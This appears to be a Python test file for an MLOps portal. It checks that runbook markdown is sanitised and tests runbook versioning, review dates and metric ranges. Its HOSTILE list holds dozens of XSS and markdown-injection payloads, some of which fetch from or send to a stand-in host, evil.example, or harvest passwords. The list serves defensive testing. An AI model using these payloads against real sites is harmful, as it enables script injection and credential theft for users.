from datetime import timedelta
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from mlops_portal.engine.models import Change
from mlops_portal.engine.versions import Stale
from systems.actions.runbooks import confirm_runbook, remove_range, set_range, write_runbook
from systems.models import ExpectedRange
from systems.runbooks import LONGEST, render, steps_of
from tests.protections import protects

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/ping.png'>",
    "![ping](http://evil.example/ping.png)",
    "![ping](data:image/svg+xml;base64,PHN2Zy8+)",
    "![a][b]\n\n[b]: http://evil.example/x.png",
    "![x](javascript:alert(1))",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](http://a.example "onmouseover=alert(1)")',
    "[x](http://a.example\"onmouseover='alert(1)')",
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "- [ ] <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <svg/onload=alert(1)>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "~~<body onload=alert(1)>~~",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    '<https://a.example/"onmouseover=alert(1)>',
    '![" onerror=alert(1) x="](http://evil.example/x.png "onerror=alert(1)")',
    "&#60;script&#62;alert(1)&#60;/script&#62; &lt;img src=x onerror=alert(1)&gt;",
    "\\<script>alert(1)\\</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '- [ ] x</li><li class="step"><script>alert(1)</script>',
    "[x]: http://a.example '\"onclick=alert(1) x=\"'\n\n[x]",
]
HARMLESS = {
    *("p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "s", "hr", "br"),
    *("table", "thead", "tbody", "tr", "th", "td", "a"),
}


class Nodes(HTMLParser):
    """Collects what a browser could act upon."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        if tag not in HARMLESS:
            self.found.append(tag)
        for name, value in attributes:
            is_address = name == "href" and (value or "").startswith(("http://", "https://", "mailto:"))
            is_known = (name, value) in {("class", "step"), ("rel", "noopener noreferrer")} or name in (
                "title",
                "start",
            )
            if not is_address and not is_known:
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, text):
        self.found.append(text)


def as_it_comes() -> MarkdownIt:
    """Return a reader that lets raw HTML and every address through."""
    reader = MarkdownIt("commonmark", {"html": True})
    reader.validateLink = lambda address: True
    return reader


NO_CLEANING = {"systems.runbooks.nh3.clean": lambda html, **rules: html}
NOTHING_AT_ALL = NO_CLEANING | {"systems.runbooks._READER": as_it_comes()}


@protects("S22", off=NO_CLEANING)
@protects("S22", off=NOTHING_AT_ALL)
def test_nothing_in_a_runbook_can_be_executed_or_fetched():
    assert {body: found for body in HOSTILE if (found := Nodes(render(body)).found)} == {}


def test_the_table_of_hostile_texts_holds_forty():
    assert len(set(HOSTILE)) >= 40


def test_the_judge_of_hostile_texts_would_see_them():
    assert Nodes("<a href='javascript:x' onclick=y></a><img src=z>").found == [
        "a href=javascript:x",
        "a onclick=y",
        "img",
        "img src=z",
    ]


def test_what_people_write_is_kept():
    html = render("# First\n\nIf `x<y`, **call** [her](https://a.example/x).\n\n| a |\n|---|\n| 1 |")
    assert "<h3>First</h3>" in html
    assert "<code>x&lt;y</code>" in html
    assert '<a href="https://a.example/x" rel="noopener noreferrer">her</a>' in html
    assert "<td>1</td>" in html


def test_headings_stand_below_the_pages_own_and_leave_no_level_out():
    html = render("## A\n\n###### B\n\n# C")
    assert [f"<{tag}>" in html for tag in ("h3", "h4", "h8")] == [True, True, False]
    assert html.index("<h4>B") < html.index("<h3>C")


def test_steps_are_the_items_with_a_box_in_order():
    body = "- [ ] Look at the **feed**\n- nothing to tick\n- [x] Call\n  somebody\n\n1. [ ] Write it down"
    assert steps_of(body) == ["Look at the feed", "Call somebody", "Write it down"]
    assert render(body).count('<li class="step">') == 3


def test_a_box_in_code_or_in_a_paragraph_is_no_step():
    assert steps_of("[ ] not an item\n\n```\n- [ ] code\n```\n\n- [ ]not a box") == []


def test_a_text_of_any_nesting_is_rendered():
    assert render("> " * LONGEST)
    assert render("[" * LONGEST)


def _write(system, by, at, body="- [ ] Look", **options):
    return write_runbook(system=system, situation="load", body=body, by=by, at=at, **options)


@pytest.mark.parametrize(("tier", "days"), [(1, 90), (2, 120), (3, 180), (4, 180)])
def test_the_tier_says_when_a_text_is_read_again(system, manager, now, tier, days):
    system.tier = tier
    assert _write(system, manager, now).review_by == (now + timedelta(days=days)).date()


def test_versions_count_on_and_the_old_text_stays(system, manager, now):
    first, second = _write(system, manager, now), _write(system, manager, now, body="Other", origin="mlsystem.yaml")
    assert (first.n, second.n, second.origin) == (1, 2, "mlsystem.yaml")
    assert [version.body for version in second.runbook.versions.all()] == ["Other", "- [ ] Look"]


def test_the_same_text_again_is_no_new_version(system, manager, now):
    first = _write(system, manager, now)
    assert _write(system, manager, now + timedelta(days=3)) == first
    assert Change.objects.filter(kind="runbook").count() == 1


def test_whoever_saw_another_version_changes_nothing(system, manager, now):
    _write(system, manager, now, seen=0)
    with pytest.raises(Stale):
        _write(system, manager, now, body="Other", seen=0)


def test_reading_it_again_moves_the_review_and_writes_no_version(system, manager, now):
    _write(system, manager, now, review_by=now.date())
    later = now + timedelta(days=10)
    version = confirm_runbook(system=system, situation="load", by=manager, at=later, seen=1)
    assert (version.n, version.review_by) == (1, (later + timedelta(days=180)).date())


def test_a_range_is_set_changed_and_removed_with_a_trail(system, manager, now):
    for high in (0.9, 0.95, 0.95):
        set_range(system=system, metric_key="roc_auc", low=0.8, high=high, reason="Seen in May.", by=manager, at=now)
    assert ExpectedRange.objects.get(system=system).high == 0.95
    remove_range(system=system, metric_key="roc_auc", by=manager, at=now)
    assert Change.objects.filter(kind="expected range").count() == 3
    assert not ExpectedRange.objects.exists()


@pytest.mark.parametrize(("low", "high"), [(None, None), (2.0, 1.0)])
def test_a_range_that_says_nothing_is_refused(system, manager, now, low, high):
    with pytest.raises(ValueError):
        set_range(system=system, metric_key="x", low=low, high=high, reason="None.", by=manager, at=now)
